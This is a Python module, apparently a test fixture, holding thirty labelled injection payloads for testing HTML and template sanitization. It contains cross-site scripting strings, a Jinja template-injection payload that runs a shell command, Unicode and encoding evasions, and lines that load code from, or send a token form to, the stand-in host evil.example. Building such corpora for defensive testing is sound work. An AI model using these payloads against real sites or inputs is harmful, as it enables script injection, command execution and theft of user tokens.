"""Thirty ways in which text tries to be more than text. Each would call ``ran`` or ask another host, if it could."""

from __future__ import annotations

ELSEWHERE = "evil.example"
CONTROLS = "".join(map(chr, (*range(1, 9), 11, 12, *range(14, 32), 0x7F, 0x85)))

PAYLOADS: dict[str, str] = {
    "script": "<script>ran(1)</script>",
    "script that is loaded": f"<script src=//{ELSEWHERE}/a.js></script>",
    "image": f"<img src=//{ELSEWHERE}/a.png onerror=ran(3)>",
    "attribute in double quotes": '" autofocus onfocus="ran(4)" x="',
    "attribute in single quotes": "' onmouseover='ran(5)' style='position:fixed;inset:0",
    "attribute without quotes": "x onpointerenter=ran(6) tabindex=1",
    "tag that ends a tag": '"></a></td></table><svg/onload=ran(7)>',
    "script address": "javascript:ran(8)//",
    "script address in disguise": "\x01java\tscript&colon;ran(9)",
    "data address": "data:text/html;base64,PHNjcmlwdD5yYW4oMTApPC9zY3JpcHQ+",
    "svg": f'<svg><animate onbegin=ran(11) attributeName=x dur=1s><use href="//{ELSEWHERE}/a.svg#x"/></svg>',
    "mathml": '<math><mtext><table><mglyph><style><img src onerror=ran(12)>',
    "title and textarea": "</title></textarea></style></xmp><script>ran(13)</script>",
    "templates": "{{7*191}}${7*191}<%= 7*191 %>#{7*191}[[7*191]]{% raw %}",
    "template of jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "comment": "--><script>ran(16)</script><!--",
    "cdata": "]]><script>ran(17)</script><![CDATA[",
    "bidi": "\u202egpj.\u2066exe\u2067\u200f(ada yb)\u202d",
    "unicode": "\uff1cscript\uff1eran(19)\uff1c/script\uff1e\u2028\u2029\ufeff\u00ad\U000e0001",
    "mutation": '<noscript><p title="</noscript><img src=x onerror=ran(20)>">',
    "style": f"<style>@import'//{ELSEWHERE}/a.css';*{{background:url(//{ELSEWHERE}/b)}}</style>",
    "link, base and refresh": f"<base href=//{ELSEWHERE}/><link rel=stylesheet href=//{ELSEWHERE}/c.css>"
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/d'>",
    "form": f"<form action=//{ELSEWHERE}/e id=live><button name=csrf>Leave</button><input name=token>",
    "frame": '<iframe srcdoc="<script>parent.ran(24)</script>"></iframe><object data=x><embed src=x>',
    "json in a script": '"}]});ran(25);</script><script>ran(25)</script>\\u003cscript>ran(25)',
    "lines of an event stream": "x\n\nevent: page\ndata: \"<img src=x onerror=ran(26)>\"\r\n\r\nid: 1\nretry: 1",
    "control characters": f"<{CONTROLS}script>ran(27)<{CONTROLS}/script>",
    "over-long": "<b onclick=ran(28)>" + "A" * 170,
    "encoded": "%3Cscript%3Eran(29)%3C/script%3E&lt;script&gt;ran(29)&#x3c;img src=x onerror=ran(29)&#62;",
    "names of the page": '<p id=main name=live class=told data-live="/live/" data-part=//evil.example>Enter your token',
}  # fmt: skip
"""By technique. What begins an element that swallows the rest comes last, where several stand in one text."""

_SWALLOWERS = ("comment", "mathml", "mutation", "style", "frame")
ALL = " ".join(
    [text for name, text in PAYLOADS.items() if name not in _SWALLOWERS] + [PAYLOADS[name] for name in _SWALLOWERS]
)
"""All of them in one text."""
